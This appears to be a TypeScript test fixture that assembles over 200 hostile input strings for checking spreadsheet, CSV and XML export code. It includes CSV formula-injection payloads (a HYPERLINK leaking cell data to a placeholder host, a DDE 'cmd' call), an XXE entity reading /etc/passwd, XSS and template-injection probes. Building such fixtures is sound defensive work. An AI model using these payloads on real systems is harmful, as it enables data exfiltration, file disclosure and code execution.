/** Characters that start a formula, in one spreadsheet program or another. */
const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']

const FORMULAS = [
  'HYPERLINK("https://elsewhere.example?"&A1,"x")',
  "cmd|' /C calc'!A0",
  'SUM(1,1)*DDE("a";"b";"c")',
  '1+1',
  'IMPORTXML(CONCAT("//elsewhere.example/",A2:E2),"//a")',
]
/** Sequences with which a text may escape its cell, in CSV, in XML and in a page. */
const WAYS_OUT = [
  '"',
  '""',
  '",',
  '","',
  '"\r\n',
  ',',
  ',,,',
  '\r\n',
  '\n\n',
  '\r',
  "'",
  '</t></si>',
  '</v></c>',
  ']]>',
  '<![CDATA[',
  '<!--',
  '&lt;',
  '&#61;',
  '&amp;amp;',
  '<f>1+1</f>',
  '<?xml version="1.0"?>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<%= 7*7 %>',
  '{{7*7}}',
]
/** Characters that are invalid, invisible, or change the direction of a line. */
const CHARACTERS = [
  ...Array.from({ length: 31 }, (_, at) => String.fromCharCode(at + 1)),
  '\u007F',
  '\u0085',
  '\u009F',
  '\u00A0',
  '\u00AD',
  '\u200B',
  '\u200F',
  '\u2028',
  '\u2029',
  '\u202E',
  '\u2066',
  '\uFDD0',
  '\uFEFF',
  '\uFFFD',
  '\uFFFE',
  '\uFFFF',
  '\u{1F469}\u200D\u{1F680}',
  '\u{10FFFD}',
]
/** Texts that a reader may interpret as something else. */
const WORDS = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'null',
  'undefined',
  'NaN',
  'TRUE',
  '#REF!',
  '#N/A',
  '0',
  '007',
  '1e5',
  '-1',
  '1/2',
  '2026-01-01',
  '4294967294',
  '12345678901234567890',
  '_x0041_',
  '_x005F_x0041_',
  '_x000d_',
  '_x0041',
  'x0041_',
  ' x ',
  'مرحبا = שלום',
  '日本語、テキスト',
  'e\u0301\u0323',
]
const LONG = ['x'.repeat(10_000), '\u{1F600}'.repeat(10_000), '"'.repeat(10_000), `${'\u0001'.repeat(9_999)}x`]

/** More than 200 texts that people might enter, maliciously or not. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...new Set([
    ...FORMULA_STARTS.flatMap(start => FORMULAS.map(formula => start + formula)),
    ...WAYS_OUT.flatMap(wayOut => [`${wayOut}=1+1`, `a${wayOut}=1+1`]),
    ...CHARACTERS.flatMap(character => [`${character}=1+1`, `a${character}=1+1`]),
    ...WORDS,
    ...LONG,
  ]),
]
